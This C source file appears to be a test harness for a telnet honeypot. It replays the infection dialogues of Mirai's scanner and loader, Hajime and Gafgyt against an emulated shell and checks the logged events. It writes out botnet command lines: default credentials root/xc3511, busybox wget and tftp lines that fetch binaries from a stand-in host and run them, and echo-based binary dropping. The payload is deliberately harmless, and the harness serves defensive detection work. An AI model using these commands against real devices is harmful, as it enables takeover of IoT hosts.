#include "bot.h"

#include "base/text.h"

#include <openssl/evp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

enum { PAYLOAD = 300, CHUNK = 96, PATH = 31 };

/* ---- speaking and hearing ---- */

static bool lost(const struct bot *b)
{
    return b->problem[0] != '\0';
}

__attribute__((format(printf, 2, 3))) static void leave(struct bot *b, const char *format, ...)
{
    va_list args;
    if (lost(b))
        return;
    va_start(args, format);
    (void)vsnprintf(b->problem, sizeof b->problem, format, args);
    va_end(args);
}

static void send_bytes(struct bot *b, struct span bytes)
{
    if (lost(b))
        return;
    b->mark = b->consumed != 0 ? b->consumed : b->talk->output.len;
    b->consumed = 0;
    buf_span(&b->sent, bytes);
    talk_input(b->talk, bytes);
}

__attribute__((format(printf, 2, 3))) static void say(struct bot *b, const char *format, ...)
{
    struct buf line = {0};
    va_list args;
    va_start(args, format);
    buf_vprintf(&line, format, args);
    va_end(args);
    send_bytes(b, buf_as_span(&line));
    buf_done(&line);
}

static struct span heard(const struct bot *b)
{
    return span_part(buf_as_span(&b->talk->output), b->mark, SIZE_MAX);
}

static struct span find(struct span in, const char *text)
{
    const uint8_t *at = in.len > 0 ? memmem(in.at, in.len, text, strlen(text)) : NULL;
    return at != NULL ? span_of(at, in.len - (size_t)(at - in.at)) : (struct span){0};
}

static bool hears(const struct bot *b, const char *text)
{
    return find(heard(b), text).len > 0;
}

static void expect(struct bot *b, const char *text)
{
    struct buf got = {0};
    if (lost(b) || hears(b, text))
        return;
    text_escape(&got, span_part(heard(b), 0, 200));
    leave(b, "no \"%s\" in \"%s\"", text, buf_cstr(&got));
    buf_done(&got);
}

static void expect_fact(struct bot *b, const char *text)
{
    if (!lost(b) && find(buf_as_span(&b->talk->facts), text).len == 0)
        leave(b, "no fact \"%s\"", text);
}

/* As the scanner finds a prompt: the last of these signs, not as the first byte; what follows it is kept for the next time. */
static void expect_prompt(struct bot *b, const char *signs)
{
    struct span all = heard(b);
    size_t at = all.len;
    while (at > 1 && (all.at[at - 1] == 0 || strchr(signs, all.at[at - 1]) == NULL))
        at--;
    if (!lost(b) && at <= 1)
        leave(b, "no prompt (%s) in %zu bytes", signs, all.len);
    b->consumed = b->mark + at;
}

/* ---- logging in ---- */

struct span bot_user(const struct profile *profile)
{
    return profile->auth == AUTH_LIST ? profile->logins[0].name : span_text("root");
}

struct span bot_password(const struct profile *profile)
{
    return profile->auth == AUTH_LIST ? profile->logins[0].value : span_text("xc3511");
}

unsigned bot_tries(const struct profile *profile)
{
    switch (profile->auth) {
    case AUTH_AFTER:
        return profile->auth_after;
    case AUTH_NEVER:
        return 0;
    case AUTH_ANY:
    case AUTH_LIST:
        break;
    }
    return 1;
}

struct talk *bot_connect(const struct profile *profile)
{
    static const struct endpoint peer = {.addr = {{0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 192, 0, 2, 7}}, .port = 40000};
    return talk_new(service_by_name(span_text("telnet")), profile, peer);
}

static void line(struct bot *b, struct span text)
{
    struct buf bytes = {0};
    buf_span(&bytes, text);
    buf_text(&bytes, "\r\n");
    send_bytes(b, buf_as_span(&bytes));
    buf_done(&bytes);
}

static void login(struct bot *b)
{
    for (unsigned i = 0; i < bot_tries(b->profile); i++) {
        if (b->profile->login_prompt.len > 0) {
            expect_prompt(b, ":>$#%");
            line(b, bot_user(b->profile));
        }
        if (!hears(b, "assword"))
            expect_prompt(b, ":>$#");
        line(b, bot_password(b->profile));
    }
}

/* Waits for one command of three bytes at least, then answers as Mirai does: the window's size, else all refused. */
static void answer_options(struct bot *b)
{
    struct span got = heard(b);
    struct buf answer = {0};
    size_t i = 0;
    for (; i + 2 < got.len && got.at[i] == 0xff; i += 3) {
        uint8_t verb = got.at[i + 1], option = got.at[i + 2];
        if (verb == 0xfd && option == 31) {
            buf_put(&answer, "\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0", 12);
            continue;
        }
        buf_byte(&answer, 0xff);
        buf_byte(&answer, verb == 0xfd ? 0xfc : verb == 0xfb ? 0xfd : verb);
        buf_byte(&answer, option);
    }
    if (i == 0)
        leave(b, "the first bytes are no option");
    buf_span(&b->sent, buf_as_span(&answer));
    if (!lost(b))
        talk_input(b->talk, buf_as_span(&answer));
    buf_done(&answer);
}

/* ---- Mirai's scanner ---- */

static void scanner(struct bot *b)
{
    static const char *const lines[] = {"enable", "system", "shell", "sh"};
    answer_options(b);
    login(b);
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        expect_prompt(b, ":>$#%");
        if (hears(b, "ncorrect"))
            leave(b, "login taken for failed");
        say(b, "%s\r\n", lines[i]);
    }
    expect_prompt(b, ":>$#%");
    say(b, "/bin/busybox MIRAI\r\n");
    expect(b, "MIRAI: applet not found");
    expect_fact(b, "login event.outcome=success");
    expect_fact(b, "process.command_line=/bin/busybox MIRAI");
}

/* ---- Mirai's loader ---- */

static const char *const token = "/bin/busybox ECCHI";

static void expect_token(struct bot *b)
{
    expect(b, "ECCHI: applet not found");
}

/* Directories of the mount table that are mounted rw, as the loader reads it: second and fourth word of each line. `storage`: only what
 * files are kept on. */
static size_t writable_mounts(struct bot *b, char paths[][PATH + 1], size_t most, bool storage)
{
    size_t count = 0;
    struct span rest = heard(b);
    while (rest.len > 0 && count < most) {
        size_t end = span_find(rest, '\n');
        char text[256], device[64], path[128], type[32], options[64];
        struct span one = span_part(rest, 0, end < sizeof text ? end : sizeof text - 1);
        (void)snprintf(text, sizeof text, "%.*s", (int)one.len, (const char *)one.at);
        if (sscanf(text, "%63s %127s %31s %63s", device, path, type, options) == 4 && path[0] == '/' && strncmp(options, "rw", 2) == 0 &&
            strlen(path) <= PATH && (!storage || (strcmp(path, "/") != 0 && strstr("tmpfs ramfs jffs2 yaffs2 ubifs ext2 ext3 ext4", type) != NULL))) {
            (void)snprintf(paths[count], PATH + 1, "%.*s", PATH, path);
            count++;
        }
        rest = span_part(rest, end + 1, rest.len);
    }
    return count;
}

/* Where a file can be written: the first directory that gives back what was put there. */
static void find_directory(struct bot *b, char directory[PATH + 1])
{
    char paths[16][PATH + 1];
    say(b, "/bin/busybox cat /proc/mounts; %s\r\n", token);
    expect_token(b);
    size_t count = writable_mounts(b, paths, 15, false);
    if (count == 0)
        leave(b, "no file system is mounted rw");
    (void)snprintf(paths[count], PATH + 1, "/dev");
    count++;
    directory[0] = '\0';
    for (size_t i = 0; i < count && !lost(b); i++) {
        char echoed[64];
        say(b, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69%s' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon; %s\r\n",
            paths[i], paths[i], paths[i], paths[i], token);
        expect_token(b);
        (void)snprintf(echoed, sizeof echoed, "kami%s\r\n", paths[i]);
        if (hears(b, echoed) && directory[0] == '\0')
            (void)snprintf(directory, PATH + 1, "%s", paths[i]);
    }
    if (directory[0] == '\0')
        leave(b, "no directory can be written");
}

/* The header as the loader reads it: data encoding and machine. */
static void read_elf(struct bot *b, const char *from)
{
    const struct machine_info *info = machine_info(b->profile->machine);
    struct span elf = find(heard(b), "\x7f"
                                     "ELF");
    if (lost(b))
        return;
    if (elf.len < 20) {
        leave(b, "%s shows no ELF header", from);
        return;
    }
    bool big = elf.at[5] == 2;
    unsigned machine = big ? elf.at[18] * 256U + elf.at[19] : elf.at[19] * 256U + elf.at[18];
    if (elf.at[4] != info->elf_class || big != info->big_endian || machine != info->e_machine)
        leave(b, "%s is for class %u, data %u, machine %u, not for %s", from, elf.at[4], elf.at[5], machine, info->name);
}

/* Harmless bytes behind the header a loader would send. */
static void make_payload(const struct bot *b, uint8_t payload[static PAYLOAD])
{
    const struct machine_info *info = machine_info(b->profile->machine);
    static const uint8_t magic[4] = {0x7f, 'E', 'L', 'F'};
    for (size_t i = 0; i < PAYLOAD; i++)
        payload[i] = (uint8_t)(i * 7 + b->place);
    memcpy(payload, magic, sizeof magic);
    payload[4] = info->elf_class;
    payload[5] = info->big_endian ? 2 : 1;
    payload[6] = 1;
    memset(payload + 7, 0, 11);
    payload[info->big_endian ? 17 : 16] = 2;
    payload[info->big_endian ? 18 : 19] = (uint8_t)(info->e_machine >> 8);
    payload[info->big_endian ? 19 : 18] = (uint8_t)info->e_machine;
}

static void expect_sample(struct bot *b, const uint8_t *bytes, size_t len)
{
    uint8_t digest[32];
    char hex[65], fact[96];
    if (EVP_Digest(bytes, len, digest, NULL, EVP_sha256(), NULL) != 1)
        abort();
    (void)snprintf(fact, sizeof fact, "file.hash.sha256=%s", text_hex(span_of(digest, sizeof digest), hex));
    expect_fact(b, fact);
}

static void echo_load(struct bot *b)
{
    uint8_t payload[PAYLOAD];
    make_payload(b, payload);
    for (size_t at = 0; at < PAYLOAD; at += CHUNK) {
        char text[CHUNK * 4 + 1];
        size_t len = PAYLOAD - at < CHUNK ? PAYLOAD - at : CHUNK;
        for (size_t i = 0; i < len; i++)
            (void)snprintf(text + i * 4, 5, "\\x%02x", payload[at + i]);
        say(b, "echo -ne '%s' >%s upnp; %s\r\n", text, at > 0 ? ">" : "", token);
        expect_token(b);
    }
    say(b, "./upnp; ./dvrHelper telnet.test; /bin/busybox IHCCE\r\n");
    expect(b, "IHCCE: applet not found");
    expect_sample(b, payload, sizeof payload);
}

static void loader(struct bot *b)
{
    char directory[PATH + 1];
    answer_options(b);
    login(b);
    say(b, "enable\r\nshell\r\nsh\r\n");
    say(b, "%s\r\n", token);
    expect_token(b);
    say(b, "/bin/busybox ps; %s\r\n", token);
    expect_token(b);
    find_directory(b, directory);
    say(b, "rm %s/.t; rm %s/.sh; rm %s/.human\r\ncd %s/\r\n", directory, directory, directory, directory);
    say(b, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; %s\r\n", token);
    expect_token(b);
    say(b, "/bin/busybox cat /bin/echo\r\n");
    read_elf(b, "/bin/echo");
    say(b, "%s\r\n", token);
    expect_token(b);
    if (b->profile->machine == MACHINE_ARM) {
        say(b, "cat /proc/cpuinfo; %s\r\n", token);
        expect(b, "architecture");
        expect_token(b);
    }
    say(b, "/bin/busybox wget; /bin/busybox tftp; %s\r\n", token);
    expect_token(b);
    bool wget = profile_has_applet(b->profile, span_text("wget")), tftp = profile_has_applet(b->profile, span_text("tftp"));
    if (!lost(b) && (hears(b, "wget: applet not found") == wget || hears(b, "tftp: applet not found") == tftp))
        leave(b, "the applets wget and tftp are not as the profile says");
    if (wget) {
        say(b, "/bin/busybox wget http://192.0.2.9:80/bins/test.%zu -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; %s\r\n", b->place, token);
        expect_token(b);
        expect_fact(b, "url.full=http://192.0.2.9:80/bins/test.");
    } else if (tftp) {
        say(b, "/bin/busybox tftp -g -l dvrHelper -r test.%zu 192.0.2.9; /bin/busybox chmod 777 dvrHelper; %s\r\n", b->place, token);
        expect_token(b);
        expect_fact(b, "noroshi.download.method=tftp");
    } else {
        say(b, "/bin/busybox cp dvrHelper upnp; >upnp; /bin/busybox chmod 777 upnp; %s\r\n", token);
        expect_token(b);
        echo_load(b);
    }
    if (wget || tftp) {
        say(b, "./dvrHelper telnet.test; /bin/busybox IHCCE\r\n");
        expect(b, "IHCCE: applet not found");
    }
}

/* The branch that brings the bytes themselves, on every device: some loaders never try another. */
static void echo_loader(struct bot *b)
{
    char directory[PATH + 1];
    login(b);
    say(b, "enable\r\nsystem\r\nshell\r\nsh\r\n");
    find_directory(b, directory);
    say(b, "cd %s; >upnp; chmod 777 upnp; >dvrHelper; %s\r\n", directory, token);
    expect_token(b);
    echo_load(b);
}

/* ---- Hajime ---- */

static void hajime(struct bot *b)
{
    static const char *const word = "/bin/busybox QWERT";
    char directory[PATH + 1], paths[16][PATH + 1];
    login(b);
    say(b, "enable\nsystem\nshell\nsh\n");
    say(b, "cat /proc/mounts; %s\n", word);
    expect(b, "QWERT: applet not found");
    size_t count = writable_mounts(b, paths, 16, true);
    (void)snprintf(directory, sizeof directory, "%.*s", PATH, count > 0 ? paths[0] : "/var");
    say(b, "cd %s; cat .s || cp /bin/echo .s; %s\n", directory, word);
    expect(b, "QWERT: applet not found");
    say(b, "tftp; wget; %s\n", word);
    expect(b, "QWERT: applet not found");
    say(b, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s\n");
    read_elf(b, ".s");
    say(b, "%s\n", word);
    expect(b, "QWERT: applet not found");
    say(b, "rm .s; exit\n");
}

/* ---- Gafgyt ---- */

static void gafgyt(struct bot *b)
{
    login(b);
    say(b, "sh\r\n");
    say(b, "/bin/busybox echo -ne '\\x67\\x61\\x79\\x66\\x67\\x74'\r\n");
    if (!hears(b, "gayfgt"))
        expect(b, "gayfgt");
    say(b,
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.9/bins%zu.sh; chmod 777 bins%zu.sh; sh bins%zu.sh; "
        "tftp 192.0.2.9 -c get t1.sh; chmod 777 t1.sh; sh t1.sh; tftp -r t2.sh -g 192.0.2.9; chmod 777 t2.sh; sh t2.sh; rm -rf bins%zu.sh t1.sh "
        "t2.sh\r\n",
        b->place, b->place, b->place, b->place);
    expect_prompt(b, "#$>");
    if (profile_has_applet(b->profile, span_text("wget")))
        expect_fact(b, "url.full=http://192.0.2.9/bins");
    else
        expect(b, "wget: not found");
    if (profile_has_applet(b->profile, span_text("tftp")))
        expect_fact(b, "noroshi.download.method=tftp");
    say(b, "echo -e 'gosh%zu' | grep gosh && echo done; exit\r\n", b->place);
    expect(b, "gosh");
}

const struct bot_kind bots[] = {
    {"Mirai's scanner", scanner}, {"Mirai's loader", loader}, {"an echo loader", echo_loader}, {"Hajime", hajime}, {"Gafgyt", gafgyt},
};
const size_t bot_count = sizeof bots / sizeof bots[0];

void bot_play(struct bot *b, const struct bot_kind *kind, const struct profile *profile, size_t place)
{
    *b = (struct bot){.profile = profile, .place = place, .talk = bot_connect(profile)};
    kind->play(b);
}

void bot_done(struct bot *b)
{
    buf_done(&b->sent);
    talk_free(b->talk);
}
